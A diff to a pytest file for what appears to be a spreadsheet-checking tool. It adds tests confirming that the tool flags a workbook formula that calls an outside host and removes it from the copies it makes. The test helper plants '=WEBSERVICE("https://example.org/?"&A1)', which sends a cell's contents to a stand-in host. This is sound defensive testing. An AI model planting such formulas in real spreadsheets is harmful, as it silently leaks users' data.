@@ -2,9 +2,11 @@
 
 import shutil
 
+import openpyxl
 import pytest
 
 from tests.steps.helpers import contents, sentence
+from xlcheck.excel.read.active import active_things
 from xlcheck.messages import Level
 from xlcheck.schema.inputs import ENTITY_BOOK, INPUT_BOOKS, INSPECTOR_BOOK, PLAN_BOOK
 from xlcheck.steps.check.check import check
@@ -83,3 +85,33 @@ def test_files_from_elsewhere_are_reported_in_the_folder(run, tmp_path):
     shutil.copy(run.desk.book(INSPECTOR_BOOK), tmp_path / "人员.xlsx")
     (one,) = check_dropped(run, [tmp_path / "人员.xlsx"])
     assert one.checked.report.parent == inbox(run.desk) / RESULTS
+
+
+def hostile(path, name="来件.xlsx"):
+    """A plan as somebody sent it, with a formula that calls outside."""
+    book = openpyxl.load_workbook(path)
+    book.worksheets[0]["Z2"] = '=WEBSERVICE("https://example.org/?"&A1)'
+    out = path.parent / name
+    book.save(out)
+    return out
+
+
+def test_what_acts_by_itself_is_told_and_is_in_no_copy(run, folder):
+    shutil.move(hostile(run.desk.book(PLAN_BOOK)), folder / "来件.xlsx")
+    before = (folder / "来件.xlsx").read_bytes()
+    (one,) = check_dropped(run)
+    assert [f.place.cell for f in one.checked.findings if f.code == "book.calls-outside"] == ["Z2"]
+    (copy,) = one.checked.copies
+    assert active_things(copy) == ()
+    assert active_things(folder / "来件.xlsx")
+    assert (folder / "来件.xlsx").read_bytes() == before
+    assert not list(copy.parent.glob(".*"))
+
+
+def test_own_copies_keep_everything(run):
+    path = run.desk.book(PLAN_BOOK)
+    shutil.move(hostile(path), path)
+    checked = check(run)
+    assert "book.calls-outside" not in {f.code for f in checked.findings}
+    marked = [copy for copy in checked.copies if PLAN_BOOK.filename in copy.name]
+    assert all(active_things(copy) for copy in marked)
